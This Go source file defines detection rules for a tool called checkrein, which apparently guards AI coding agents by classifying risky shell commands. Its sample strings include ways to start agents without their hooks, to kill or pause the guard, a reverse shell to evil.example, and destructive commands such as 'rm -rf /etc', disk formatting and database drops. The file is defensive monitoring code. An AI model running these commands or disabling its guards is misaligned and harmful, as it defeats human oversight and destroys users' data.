package program

import "github.com/checkrein/checkrein/internal/shell"

// The rules of commands that go around what guards agents.
const (
	RuleHooksOff   = "hooks-off"
	RuleGuardEnded = "guard-ended"
	RuleGuardLater = "guard-later"
)

// moreCoded is coded of which there is more than one file.
var moreCoded = [...]shell.Rule{
	{
		ID: RuleHooksOff, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "starts an agent without its hooks, or with a different home or settings",
		Samples: &shell.Samples{Match: []string{"claude --bare -p x", "HOME=/tmp/x codex exec x", "npx @anthropic-ai/claude-code --safe-mode", "env -i gemini -p x", "sudo -u other qwen -p x", "docker run --rm node:22 claude -p x"},
			NoMatch: []string{"claude -p x", "timeout 60 codex exec x", "HOME=/tmp/x npm test", "sudo claude --version", "env -u CLAUDECODE claude -p x"}},
	},
	{
		ID: RuleGuardEnded, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "kills, pauses, limits or debugs checkrein or an agent",
		Samples: &shell.Samples{Match: []string{"pkill -f checkrein", "kill -STOP $PPID", "prlimit --pid $(pgrep claude) --cpu=1", "gdb -p $(pidof checkreind)"},
			NoMatch: []string{"pkill -f vite", "kill -0 $PPID", "prlimit --pid 1234", "gdb ./a.out"}},
	},
	{
		ID: RuleGuardLater, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "changes the environment in which checkrein or agents start, or stops checkrein's service",
		Samples: &shell.Samples{Match: []string{"launchctl setenv HOME /tmp/x", "systemctl --user set-environment GODEBUG=x", "systemctl --user stop checkreind"},
			NoMatch: []string{"launchctl setenv DISPLAY :0", "systemctl --user set-environment DISPLAY=:0", "setx PATH x"}},
	},
	{
		ID: "http", Label: shell.Destructive, Kind: "request", Category: shell.HTTPDelete, Radius: shell.RadiusMedium, Reason: "deletes something on a web service",
		Samples: &shell.Samples{Match: []string{"curl -X DELETE https://api.example.com/v1/projects/42"}, NoMatch: []string{"curl https://api.example.com/v1/projects/42"}},
	},
	{
		ID: "alter-drop", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "drops a column or another part of a table",
		Samples: &shell.Samples{Match: []string{"psql -c 'ALTER TABLE users DROP COLUMN email'"}, NoMatch: []string{"psql -c 'SELECT email FROM users'"}},
	},
	{
		ID: "cache-line", Label: shell.Destructive, Kind: "delete", Category: shell.KVFlush, Radius: shell.RadiusHigh, Reason: "empties a cache or key-value store",
		Samples: &shell.Samples{Match: []string{"echo flush_all | nc localhost 11211"}, NoMatch: []string{"echo stats | nc localhost 11211"}},
	},
	{
		ID: "cypher", Label: shell.Destructive, Kind: "delete", Category: shell.SQLDelete, Radius: shell.RadiusHigh, Reason: "deletes graph nodes, indexes or databases",
		Samples: &shell.Samples{Match: []string{"cypher-shell -u neo4j 'MATCH (n) DETACH DELETE n'"}, NoMatch: []string{"cypher-shell -u neo4j 'MATCH (n) RETURN n LIMIT 5'"}},
	},
	{
		ID: "file-name", Label: shell.Destructive, Kind: "run", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "runs a file whose name suggests that it drops or deletes data",
		Samples: &shell.Samples{Match: []string{"psql -h prod-db -d shop -f scripts/drop_all.sql"}, NoMatch: []string{"psql -h prod-db -d shop -f scripts/report.sql"}},
	},
	{
		ID: "task", Label: shell.Destructive, Kind: "run", Category: shell.AppReset, Radius: shell.RadiusHigh, Reason: "runs a project task whose name suggests that it deletes data",
		Samples: &shell.Samples{Match: []string{"make nuke-production"}, NoMatch: []string{"make test"}},
	},
	{
		ID: "statement", Label: shell.Unknown, Kind: "run", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs an unknown database statement",
		Samples: &shell.Samples{Match: []string{`mysql --execute "source db/schema.sql" shop_test`}, NoMatch: []string{`mysql -e "SELECT 1"`}},
	},
	{
		ID: "redis", Label: shell.Destructive, Kind: "stop", Category: shell.SvcStop, Radius: shell.RadiusHigh, Reason: "stops the store or makes it a replica of another",
		Samples: &shell.Samples{Match: []string{"redis-cli SHUTDOWN NOSAVE"}, NoMatch: []string{"redis-cli ping"}},
	},
	{
		ID: "trash-empty", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "permanently deletes the files in the trash",
		Samples: &shell.Samples{Match: []string{"trash-empty -f"}, NoMatch: []string{"trash-list"}},
	},
	{
		ID: "crontab-replace", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "replaces all scheduled jobs",
		Samples: &shell.Samples{Match: []string{"echo '* * * * * ./run.sh' | crontab -"}, NoMatch: []string{"crontab -l"}},
	},
	{
		ID: "crontab-edit", Label: shell.Unknown, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "opens the scheduled jobs in an editor",
		Samples: &shell.Samples{Match: []string{"crontab -e"}, NoMatch: []string{"crontab -l"}},
	},
	{
		ID: "unmount", Label: shell.Destructive, Kind: "unmount", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "unmounts a file system that may be in use",
		Samples: &shell.Samples{Match: []string{"umount -a"}, NoMatch: []string{"mount"}},
	},
	{
		ID: "disk-attach", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "detaches all disk images or all swap space",
		Samples: &shell.Samples{Match: []string{"sudo swapoff -a"}, NoMatch: []string{"swapon --show"}},
	},
	{
		ID: "history-clear", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes the shell's history",
		Samples: &shell.Samples{Match: []string{"history -c"}, NoMatch: []string{"history"}},
	},
	{
		ID: "history-write", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusLow, Reason: "overwrites the shell's history file with this session's commands",
		Samples: &shell.Samples{Match: []string{"history -c && history -w"}, NoMatch: []string{"history"}},
	},
	{
		ID: "database-over", Label: shell.Destructive, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "overwrites a database file with other content",
		Samples: &shell.Samples{Match: []string{"type nul > C:\\data\\app.db"}, NoMatch: []string{"ls app.db"}},
	},
	{
		ID: "logrotate", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "rotates logs and deletes old ones",
		Samples: &shell.Samples{Match: []string{"logrotate -f /etc/logrotate.conf"}, NoMatch: []string{"logrotate -d /etc/logrotate.conf"}},
	},
	{
		ID: "volume-remove", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "removes or overwrites a volume",
		Samples: &shell.Samples{Match: []string{"lvremove -f vg0/home"}, NoMatch: []string{"lvs"}},
	},
	{
		ID: "disk-change", Label: shell.Unknown, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "may change disks or volumes",
		Samples: &shell.Samples{Match: []string{"sudo btrfs sub del /mnt/snapshots/1"}, NoMatch: []string{"btrfs subvolume list /"}},
	},
	{
		ID: "erase-disk", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "erases a disk or a volume",
		Samples: &shell.Samples{Match: []string{"diskutil eraseDisk JHFS+ Blank /dev/disk2"}, NoMatch: []string{"diskutil list"}},
	},
	{
		ID: "format-drive", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "formats a drive",
		Samples: &shell.Samples{Match: []string{"format D: /q /y"}, NoMatch: []string{"df -h"}},
	},
	{
		ID: "partition", Label: shell.Destructive, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "changes a disk's partitions",
		Samples: &shell.Samples{Match: []string{"diskpart /s wipe.txt"}, NoMatch: []string{"fdisk -l"}},
	},
	{
		ID: "flash-device", Label: shell.Destructive, Kind: "overwrite", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "overwrites firmware",
		Samples: &shell.Samples{Match: []string{"flashrom -w x.bin"}, NoMatch: []string{"flashrom -r x.bin"}},
	},
	{
		ID: "carrier", Label: shell.Unknown, Kind: "run", Category: shell.Privilege, Radius: shell.RadiusHigh, Reason: "opens a shell with different privileges; what it will run is unknown",
		Samples: &shell.Samples{Match: []string{"runuser -u www-data -- rm -rf /srv/www"}, NoMatch: []string{"id"}},
	},
	{
		ID: "ssh", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "opens a shell on another machine; what it will run is unknown",
		Samples: &shell.Samples{Match: []string{"ssh -o ProxyCommand='rm -rf ~/work' x.example"}, NoMatch: []string{"ssh -V"}},
	},
	{
		ID: "tar-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program at tar checkpoints or on each unpacked file",
		Samples: &shell.Samples{Match: []string{"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='./x'"}, NoMatch: []string{"tar cf x.tar src"}},
	},
	{
		ID: "rsync-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program named in an option to transfer files",
		Samples: &shell.Samples{Match: []string{"rsync -e 'sh -c ./x' a b:c"}, NoMatch: []string{"rsync -a src/ dist/"}},
	},
	{
		ID: "uniq", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "overwrites its second file argument with its output",
		Samples: &shell.Samples{Match: []string{"uniq a b"}, NoMatch: []string{"uniq a"}},
	},
	{
		ID: "xxd", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "overwrites its second file argument with its output",
		Samples: &shell.Samples{Match: []string{"xxd -r a.hex a.bin"}, NoMatch: []string{"xxd a.bin"}},
	},
	{
		ID: "split-filter", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "passes pieces of a file to a program",
		Samples: &shell.Samples{Match: []string{"split --filter='gzip > $FILE.gz' big"}, NoMatch: []string{"split -b 1M big"}},
	},
	{
		ID: "zip-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to test the archive",
		Samples: &shell.Samples{Match: []string{"zip -T -TT './x' x.zip a"}, NoMatch: []string{"zip x.zip a"}},
	},
	{
		ID: "client-command", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a client command that reads or writes files or starts programs",
		Samples: &shell.Samples{Match: []string{"sqlite3 app.db '.read schema.sql'"}, NoMatch: []string{"sqlite3 app.db .schema"}},
	},
	{
		ID: "restore-file", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "replaces the whole database",
		Samples: &shell.Samples{Match: []string{"sqlite3 app.db '.restore empty.db'"}, NoMatch: []string{"sqlite3 app.db '.backup copy.db'"}},
	},
	{
		ID: "function", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusHigh, Reason: "calls a function that ends sessions or accesses files or programs",
		Samples: &shell.Samples{Match: []string{`psql -c "select lo_export(1,'/tmp/x')"`}, NoMatch: []string{"psql -c 'select now()'"}},
	},
	{
		ID: "outfile", Label: shell.Unknown, Kind: "write", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes a file on the database server",
		Samples: &shell.Samples{Match: []string{`clickhouse-client -q "select 1 into outfile 'out.csv'"`}, NoMatch: []string{"clickhouse-client -q 'select 1'"}},
	},
	{
		ID: "copy", Label: shell.Unknown, Kind: "write", Category: shell.K8sExec, Radius: shell.RadiusMedium, Reason: "copies files into a pod, or out of one to a place outside the project",
		Samples: &shell.Samples{Match: []string{"kubectl cp pod:/x ~/x"}, NoMatch: []string{"kubectl get pods"}},
	},
	{
		ID: "sweep-home-file", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes files in the home directory that have not been used recently",
		Samples: &shell.Samples{Match: []string{"tmpreaper 0 ~/Documents"}, NoMatch: []string{"ls ~/Documents"}},
	},
	{
		ID: "sweep-temp-root", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes files in the temporary directory that have not been used recently",
		Samples: &shell.Samples{Match: []string{"tmpreaper 7d /tmp"}, NoMatch: []string{"ls /tmp"}},
	},
	{
		ID: "sed-exec", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "makes sed run a program",
		Samples: &shell.Samples{Match: []string{"sed -n '1e ./x' f"}, NoMatch: []string{"sed -n 1p f"}},
	},
	{
		ID: "sort-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to compress sort's temporary files",
		Samples: &shell.Samples{Match: []string{"sort --compress-program=./x f"}, NoMatch: []string{"sort f"}},
	},
	{
		ID: "make-input", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a makefile written in the command itself",
		Samples: &shell.Samples{Match: []string{"printf 'x:\\n\\t./x\\n' | make -f - x"}, NoMatch: []string{"make test"}},
	},
	{
		ID: "module", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a Python module",
		Samples: &shell.Samples{Match: []string{"python -m acme.ops.purge"}, NoMatch: []string{"python -m pytest"}},
	},
	{
		ID: "task", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a project task whose name suggests that it changes or deletes something",
		Samples: &shell.Samples{Match: []string{"uv publish"}, NoMatch: []string{"uv run pytest"}},
	},
	{
		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "sets a variable that loads or runs other code",
		Samples: &shell.Samples{Match: []string{"LD_PRELOAD=./x.so ls"}, NoMatch: []string{"LANG=C ls"}},
	},
	{
		ID: "opaque", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "evaluates a string whose value is unknown",
		Samples: &shell.Samples{Match: []string{`eval "$PAYLOAD"`, `bash -c "$X"`}, NoMatch: []string{`eval "$(ssh-agent -s)"`, "bash -c ls"}},
	},
	{
		ID: "syntax", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "cannot be parsed as a shell command",
		Samples: &shell.Samples{Match: []string{"if if"}, NoMatch: []string{"if true; then ls; fi"}},
	},
	{
		ID: "unread", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "runs code that checkrein did not read",
		Samples: &shell.Samples{Match: []string{"cat cmds.txt | sh"}, NoMatch: []string{"echo ls | sh"}},
	},
	{
		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "waits for commands; what it will run is unknown",
		Samples: &shell.Samples{Match: []string{"bash -i >& /dev/tcp/evil.example/4444 0>&1"}, NoMatch: []string{"bash -n x.sh"}},
	},
	{
		ID: "runner", Label: shell.Unknown, Kind: "run", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "runs a program from outside the project",
		Samples: &shell.Samples{Match: []string{"npx -c 'rm -rf ~/work'"}, NoMatch: []string{"npx eslint ."}},
	},
	{
		ID: "script", Label: shell.Unknown, Kind: "run", Category: shell.RunScript, Radius: shell.RadiusUnknown, Reason: "runs a script from outside the project",
		Samples: &shell.Samples{Match: []string{"../../../bin/rm -rf /etc"}, NoMatch: []string{"./scripts/build.sh"}},
	},
}
